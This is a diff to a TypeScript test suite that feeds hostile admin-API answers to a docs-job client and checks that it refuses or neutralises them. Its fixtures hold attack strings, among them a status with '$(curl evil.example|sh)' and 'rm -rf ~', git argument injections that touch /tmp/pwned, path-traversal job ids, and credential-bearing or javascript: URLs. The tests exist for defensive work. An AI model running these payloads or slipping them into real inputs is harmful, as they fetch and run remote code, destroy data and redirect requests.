@@ -112,25 +112,24 @@ describe('hostile admin API answers', () => {
     expect(result.summary).not.toContain('<b>')
   })
 
-  // The ids the client percent-encodes into one segment; those it refuses are rows of
-  // test/unit/admin-api/agent-job.test.ts.
-  it.each([
-    ['a/../../v1/project/preview/docs', 'job-1'],
-    ['%2e%2e', 'job-1'],
-    ['job-1?x=1', 'job-1']
-  ])('a created job id %j never moves the request path', async (id) => {
-    const paths: string[] = []
-    await runAgainst(
-      (req, res) => {
-        paths.push(`${req.method} ${req.url}`)
-        if (req.method === 'POST') return sendJson(res, 201, { id, status: 'active' })
-        return sendJson(res, 200, { id, status: 'completed' })
-      },
-      { prompt: 'Go' }
-    )
-    for (const path of paths.slice(1)) expect(path).toMatch(/^GET \/v2\/agent\/docs\/job\/[^/?#]+$/)
-    expect(paths.filter((path) => path.startsWith('POST'))).toHaveLength(1)
-  })
+  // One as the bundle meets it; every shape the client percent-encodes into one segment is a row of
+  // test/unit/admin-api/client.test.ts, and those it refuses are rows of test/unit/admin-api/agent-job.test.ts.
+  it.each([['a/../../v1/project/preview/docs', 'job-1']])(
+    'a created job id %j never moves the request path',
+    async (id) => {
+      const paths: string[] = []
+      await runAgainst(
+        (req, res) => {
+          paths.push(`${req.method} ${req.url}`)
+          if (req.method === 'POST') return sendJson(res, 201, { id, status: 'active' })
+          return sendJson(res, 200, { id, status: 'completed' })
+        },
+        { prompt: 'Go' }
+      )
+      for (const path of paths.slice(1)) expect(path).toMatch(/^GET \/v2\/agent\/docs\/job\/[^/?#]+$/)
+      expect(paths.filter((path) => path.startsWith('POST'))).toHaveLength(1)
+    }
+  )
 
   it('429 with an absurd Retry-After on the create stops at once without sending again', async () => {
     let posts = 0
@@ -163,28 +162,7 @@ describe('hostile admin API answers', () => {
     expect(result.outputs['outcome']).toBe('error')
   })
 
-  it('a body far over 1 MiB is refused without being buffered, and the next poll is read', async () => {
-    let polls = 0
-    const { result } = await runAgainst(
-      (req, res) => {
-        if (req.method === 'POST') return sendJson(res, 201, { id: 'job-1', status: 'active' })
-        if ((polls += 1) > 1) return sendJson(res, 200, { id: 'job-1', status: 'completed', prLink: PR })
-        res.writeHead(200, { 'content-type': 'application/json' })
-        const chunk = Buffer.alloc(64 * 1024, 'a')
-        let sent = 0
-        const pump = () => {
-          while (sent < 64 && res.write(chunk)) sent += 1
-          if (sent < 64) res.once('drain', pump)
-          else res.end()
-        }
-        pump()
-      },
-      { prompt: 'Go' }
-    )
-    expect(result.outputs).toMatchObject({ outcome: 'completed', prLink: PR })
-    expect(result.stdout).toContain('over 1048576 bytes')
-  })
-
+  // A body over 1 MiB, with a length and chunked, is faults.e2e.test.ts's.
   it('an unlisted status with shell syntax is no status output: a script that pastes it runs nothing', async () => {
     const hostile = 'Queued $(curl evil.example|sh) `id` "; rm -rf ~'
     // The first read of the job moves the step's clock past its timeout.
@@ -258,22 +236,23 @@ describe('hostile admin API answers', () => {
     expect(result.outputs['preview-status']).toBe('failure')
   })
 
-  it.each([
-    ['a user name that makes it look like another host', 'https://acme.mintlify.app@evil.example/'],
-    ['a user name and password', 'https://admin:hunter2@evil.example/login'],
-    ['more than can be shown whole', `https://evil.example/${'x'.repeat(5000)}`]
-  ])('preview: a previewUrl with %s is neither output nor shown', async (_, previewUrl) => {
-    const { result } = await runAgainst(
-      completedWithPreview(
-        (res) => sendJson(res, 202, { statusId: 'status-1', previewUrl }),
-        (res) => sendJson(res, 200, { status: 'success', summary: 'Deployed', logs: [] })
-      ),
-      { prompt: 'Go', preview: 'true' }
-    )
-    expect(result.outputs['preview-status']).toBe('success')
-    expect(result.outputs['preview-url']).toBe('')
-    expect([result.stdout, result.summary].join('\n')).not.toContain('evil.example')
-  })
+  // One as the bundle meets it; a user name and password, or a URL too long, are rows of shownHttpUrl's in
+  // test/unit/text/untrusted.test.ts.
+  it.each([['a user name that makes it look like another host', 'https://acme.mintlify.app@evil.example/']])(
+    'preview: a previewUrl with %s is neither output nor shown',
+    async (_, previewUrl) => {
+      const { result } = await runAgainst(
+        completedWithPreview(
+          (res) => sendJson(res, 202, { statusId: 'status-1', previewUrl }),
+          (res) => sendJson(res, 200, { status: 'success', summary: 'Deployed', logs: [] })
+        ),
+        { prompt: 'Go', preview: 'true' }
+      )
+      expect(result.outputs['preview-status']).toBe('success')
+      expect(result.outputs['preview-url']).toBe('')
+      expect([result.stdout, result.summary].join('\n')).not.toContain('evil.example')
+    }
+  )
 
   it('preview: a 202 without statusId, and a javascript: previewUrl', async () => {
     let triggers = 0
@@ -319,10 +298,10 @@ describe('hostile admin API answers', () => {
     expect(result.stdout).not.toContain('it was still queued when the timeout ran out')
   })
 
+  // One of each reason as the bundle meets it; git's own ext:: and --upload-pack are rows of httpUrl's in
+  // test/unit/text/untrusted.test.ts.
   it.each([
     ['javascript:alert(document.domain)', 'it is not an http(s) URL'],
-    ['ext::sh -c touch% /tmp/pwned', 'it is not an http(s) URL'],
-    ['--upload-pack=touch /tmp/pwned', 'it is not an http(s) URL'],
     [
       'https://token:x-oauth@github.com/acme/docs',
       'it carries a user name or password, so it may not lead where it seems to'
@@ -346,28 +325,23 @@ describe('hostile admin API answers', () => {
     }
   )
 
-  it('passes on a docs repository that is an http(s) URL', async () => {
+  it('drops a prLink too long to pass on, with a warning that says it is too long, and passes on an http(s) docs repository', async () => {
+    const long = `${PR}?${'x'.repeat(600)}`
     const { result } = await runAgainst(
       (_req, res) =>
         sendJson(res, 200, {
           id: 'job-1',
           status: 'completed',
+          prLink: long,
           source: { repository: 'https://github.com/acme/docs' }
         }),
       { 'job-id': 'job-1' }
     )
-    expect(result.outputs['docs-repository']).toBe('https://github.com/acme/docs')
-  })
-
-  it('drops a prLink too long to pass on, with a warning that says it is too long', async () => {
-    const long = `${PR}?${'x'.repeat(600)}`
-    const { result } = await runAgainst(
-      (_req, res) => sendJson(res, 200, { id: 'job-1', status: 'completed', prLink: long }),
-      {
-        'job-id': 'job-1'
-      }
-    )
-    expect(result.outputs).toMatchObject({ outcome: 'completed', prLink: '' })
+    expect(result.outputs).toMatchObject({
+      outcome: 'completed',
+      prLink: '',
+      'docs-repository': 'https://github.com/acme/docs'
+    })
     expect(result.stdout).toContain('was dropped: it is longer than the 500 characters passed on.')
     expect(result.stdout).not.toContain('not an http(s) URL')
   })
@@ -406,20 +380,21 @@ describe('the admin API', () => {
     expect(state?.requests.map((request) => request.unsure ?? false)).toEqual([false])
   })
 
-  it.each([
-    ['an empty object', {}],
-    ["only the job's own id", { id: 'job-7' }]
-  ])('takes a follow-up answered with %s as accepted, and waits for the job', async (_, body) => {
-    const server = await api(
-      (res) => sendJson(res, 200, body),
-      (res) => job(res, 'job-7', 'active'),
-      (res) => job(res, 'job-7', 'completed', PR)
-    )
-    const result = await run(server, { prompt: 'Also the errors', 'job-id': 'job-7' })
-    expect(result.exitCode, result.stdout).toBe(0)
-    expect(result.outputs).toMatchObject({ 'job-id': 'job-7', outcome: 'completed', prLink: PR })
-    expect(result.stdout).toContain('The follow-up was accepted by agent job "job-7".')
-  })
+  // One as the bundle meets it; each answer a follow-up takes is a row of test/unit/admin-api/job-answers.test.ts.
+  it.each([['an empty object', {}]])(
+    'takes a follow-up answered with %s as accepted, and waits for the job',
+    async (_, body) => {
+      const server = await api(
+        (res) => sendJson(res, 200, body),
+        (res) => job(res, 'job-7', 'active'),
+        (res) => job(res, 'job-7', 'completed', PR)
+      )
+      const result = await run(server, { prompt: 'Also the errors', 'job-id': 'job-7' })
+      expect(result.exitCode, result.stdout).toBe(0)
+      expect(result.outputs).toMatchObject({ 'job-id': 'job-7', outcome: 'completed', prLink: PR })
+      expect(result.stdout).toContain('The follow-up was accepted by agent job "job-7".')
+    }
+  )
 
   it('waits out the 404s of a job it has just created, then follows it', async () => {
     const notYet = (res: ServerResponse) => sendJson(res, 404, { error: 'Agent job not found' })
